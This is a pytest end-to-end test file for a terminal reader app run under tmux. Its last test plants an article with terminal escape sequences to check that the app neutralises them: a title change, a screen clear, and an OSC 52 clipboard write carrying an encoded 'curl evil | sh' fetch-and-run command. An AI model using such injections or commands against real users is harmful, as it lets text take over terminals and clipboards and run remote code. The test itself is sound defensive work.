"""The installed console script in a real terminal: tmux runs it, keys drive it, the screen
and tmux's paste buffer (filled by OSC 52) are read back."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from tests.processes import Fifo
from tests.processes import wait_for as wait_until

pytestmark = [
    pytest.mark.e2e,
    pytest.mark.skipif(shutil.which("tmux") is None, reason="tmux is not installed"),
]

SCRIPT = Path(sys.executable).with_name("peskovtui")
WAIT = 30.0
START_TRIES = 3


class Terminal:
    """A tmux server of its own (its own socket), with one session running the program.

    Everything the program writes to the pane is copied to a FIFO as well (``pipe-pane``), so
    that a wait looks at the screen again each time the program has written, and only then.
    """

    def __init__(self, socket: Path, env: dict[str, str]) -> None:
        self.socket = socket
        self.env = env
        self.output = Fifo(socket.parent, "pane")

    def tmux(self, *args: str, check: bool = True) -> str:
        result = subprocess.run(
            ["tmux", "-S", str(self.socket), "-f", "/dev/null", *args],
            capture_output=True,
            text=True,
            env=self.env,
            check=False,
        )
        if check and result.returncode != 0:
            raise AssertionError(f"tmux {' '.join(args)} failed: {result.stderr}")
        return result.stdout

    def start(self, command: str, width: int = 140, height: int = 45) -> None:
        """Start the session running ``command``; a server that fails to come up is started
        again (the start is retried, never an assertion)."""
        error = ""
        for _ in range(START_TRIES):
            try:
                self.tmux(
                    "new-session", "-d", "-s", "t", "-x", str(width), "-y", str(height), command
                )
                self.tmux("set", "-g", "set-clipboard", "on")
                self.tmux("pipe-pane", "-o", "-t", "t", f"cat >> {self.output.path}")
                return
            except AssertionError as failure:
                error = str(failure)
                self.tmux("kill-server", check=False)
        raise AssertionError(f"tmux did not start in {START_TRIES} tries: {error}")

    def screen(self) -> str:
        return self.tmux("capture-pane", "-p", "-t", "t")

    def keys(self, *keys: str) -> None:
        self.tmux("send-keys", "-t", "t", *keys)

    def wait_for(self, condition: Callable[[str], bool], what: str) -> str:
        shown = [""]

        def seen() -> bool:
            shown[0] = self.screen()
            return condition(shown[0])

        if not wait_until(seen, self.output.wait, WAIT):
            raise AssertionError(f"timed out waiting for {what}; the screen shows:\n{shown[0]}")
        return shown[0]


@pytest.fixture
def terminal(tmp_path: Path) -> Iterator[Terminal]:
    # A short private folder for the socket: a socket path has a length limit that pytest's
    # temporary folders can pass.
    sockets = Path(tempfile.mkdtemp(prefix="ptui-"))
    env = {
        "PATH": os.environ.get("PATH", ""),
        "HOME": str(tmp_path),
        "TERM": "xterm-256color",
        "LANG": "C.UTF-8",
        "XDG_CACHE_HOME": str(tmp_path / "cache"),
        "XDG_CONFIG_HOME": str(tmp_path / "config"),
        "XDG_DATA_HOME": str(tmp_path / "data"),
        "XDG_STATE_HOME": str(tmp_path / "state"),
        "TMUX_TMPDIR": str(sockets),
    }
    term = Terminal(sockets / "s", env)
    yield term
    term.tmux("kill-server", check=False)
    term.output.close()
    shutil.rmtree(sockets, ignore_errors=True)


@pytest.mark.skipif(not SCRIPT.exists(), reason="the console script is not installed")
def test_search_jump_to_a_quote_copy_and_quit(terminal: Terminal) -> None:
    terminal.start(f"{SCRIPT}; echo exit=$?; sleep 30")
    terminal.wait_for(lambda s: "Documents" in s and "Kremlin" in s, "the first screen")

    terminal.keys("/", "e", "v", "i", "d", "e", "n", "c", "e")
    terminal.wait_for(lambda s: "matches in" in s, "search results")
    terminal.keys("Enter")
    terminal.keys("n")
    terminal.wait_for(lambda s: "match 1/" in s, "the first match")

    terminal.keys("3", "Enter")
    terminal.wait_for(lambda s: "Quotes" in s, "the quotes panel")
    terminal.keys("y")
    terminal.wait_for(lambda s: "Copied the quote by" in s, "the copy notification")
    copied = [""]

    def pasted() -> bool:
        copied[0] = terminal.tmux("show-buffer", check=False)
        return "Paragraph" in copied[0]

    wait_until(pasted, terminal.output.wait, WAIT)
    buffer = copied[0]
    assert buffer.startswith("“")
    assert "\n— " in buffer
    assert "Paragraph " in buffer

    terminal.keys("q")
    screen = terminal.wait_for(lambda s: "exit=" in s, "the app to quit")
    assert "exit=0" in screen
    assert "Traceback" not in screen


@pytest.mark.skipif(not SCRIPT.exists(), reason="the console script is not installed")
def test_keys_typed_in_one_burst_land_where_they_are_meant(terminal: Terminal) -> None:
    terminal.start(f"{SCRIPT}; echo exit=$?; sleep 30")
    terminal.wait_for(lambda s: "Documents" in s and "Kremlin" in s, "the first screen")
    # Typed as fast as a paste: the search, then enter and n for the first match.
    terminal.keys("/", "e", "v", "i", "d", "e", "n", "c", "e", "Enter", "n")
    screen = terminal.wait_for(lambda s: "match 1/" in s, "the first match")
    assert "evidence" in screen.splitlines()[2]
    assert "evidencen" not in screen
    terminal.keys("q")
    terminal.wait_for(lambda s: "exit=0" in s, "the app to quit")


@pytest.mark.skipif(not SCRIPT.exists(), reason="the console script is not installed")
def test_an_article_cannot_drive_the_terminal(terminal: Terminal, tmp_path: Path) -> None:
    folder = tmp_path / "hostile"
    folder.mkdir()
    payload = "Y3VybCBldmlsIHwgc2g="  # "curl evil | sh"
    (folder / "leak.txt").write_text(
        f"Leak\x1b]0;owned\x07 widens\n\nHe said\x1b]52;c;{payload}\x1b\\ nothing.\x1b[2J\n",
        encoding="utf-8",
    )
    terminal.start(f"{SCRIPT} {folder}; echo exit=$?; sleep 30")
    screen = terminal.wait_for(lambda s: "Documents" in s and "widens" in s, "the first screen")
    assert "Leak␛]0;owned␇ widens" in screen
    terminal.keys("2")
    screen = terminal.wait_for(lambda s: "He said␛]52;c;" in s, "the article shown")
    buffers = terminal.tmux("list-buffers", check=False)
    assert payload not in buffers
    assert "owned" not in terminal.tmux("display-message", "-p", "#{pane_title}")
    terminal.keys("q")
    screen = terminal.wait_for(lambda s: "exit=" in s, "the app to quit")
    assert "exit=0" in screen
